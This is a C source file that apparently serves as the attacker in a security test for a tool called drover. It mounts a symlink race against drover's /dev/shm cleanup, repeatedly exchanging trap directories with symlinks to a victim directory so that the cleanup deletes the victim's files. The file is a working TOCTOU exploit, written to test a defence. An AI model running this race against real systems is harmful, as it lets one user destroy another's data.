/*
 * swapper.c - the attacker of run_security.sh: a user who pre-creates a
 * directory under drover's /dev/shm prefix and keeps swapping a
 * subdirectory of it for a symlink to a victim directory, hoping that
 * drover's cleanup follows the symlink.
 *
 * Usage: swapper DIR VICTIM NFILES SECONDS
 * Makes DIR holding TRAPS directories, each holding "d" (a directory of
 * files named as the victim's: f0 .. f<NFILES-1>) and "l" (a symlink to
 * VICTIM), writes DIR/ready, then exchanges each "d" and "l" atomically
 * (renameat2 RENAME_EXCHANGE) in turn as fast as it can for SECONDS,
 * remaking whatever a cleanup removed. Several traps: a path walk that
 * escapes one may fall into the next.
 */
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* Make whichever of "d" and "l" is missing. */
static void remake(int dirfd, const char *victim, int nfiles)
{
    struct stat st;
    const char *names[] = {"d", "l"};
    bool have_dir = false, have_link = false;
    for (int i = 0; i < 2; i++) {
        if (0 == fstatat(dirfd, names[i], &st, AT_SYMLINK_NOFOLLOW)) {
            have_dir |= S_ISDIR(st.st_mode);
            have_link |= S_ISLNK(st.st_mode);
        }
    }
    if (!have_link) {
        symlinkat(victim, dirfd, fstatat(dirfd, "l", &st, AT_SYMLINK_NOFOLLOW) ? "l" : "d");
    }
    if (!have_dir) {
        const char *name = fstatat(dirfd, "d", &st, AT_SYMLINK_NOFOLLOW) ? "d" : "l";
        mkdirat(dirfd, name, 0755);
        int sub = openat(dirfd, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
        for (int f = 0; sub >= 0 && f < nfiles; f++) {
            char file[32];
            snprintf(file, sizeof(file), "f%d", f);
            int fd = openat(sub, file, O_WRONLY | O_CREAT, 0644);
            if (fd >= 0) {
                close(fd);
            }
        }
        if (sub >= 0) {
            close(sub);
        }
    }
}

#define TRAPS 8

int main(int argc, char **argv)
{
    if (5 != argc) {
        fprintf(stderr, "usage: swapper DIR VICTIM NFILES SECONDS\n");
        return 2;
    }
    int nfiles = atoi(argv[3]);
    double seconds = atof(argv[4]);
    if (0 != mkdir(argv[1], 0755)) {
        perror(argv[1]);
        return 1;
    }
    int top = open(argv[1], O_RDONLY | O_DIRECTORY), traps[TRAPS];
    for (int t = 0; t < TRAPS; t++) {
        char name[16];
        snprintf(name, sizeof(name), "t%d", t);
        mkdirat(top, name, 0755);
        traps[t] = openat(top, name, O_RDONLY | O_DIRECTORY);
        if (traps[t] < 0) {
            perror(name);
            return 1;
        }
        remake(traps[t], argv[2], nfiles);
    }
    close(openat(top, "ready", O_WRONLY | O_CREAT, 0644));
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    unsigned long swaps = 0;
    do {
        for (int i = 0; i < 1000; i++) {
            int trap = traps[i % TRAPS];
            if (0 != renameat2(trap, "d", trap, "l", RENAME_EXCHANGE)) {
                remake(trap, argv[2], nfiles);
            }
            swaps++;
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec + (now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
    printf("%lu swaps\n", swaps);
    return 0;
}
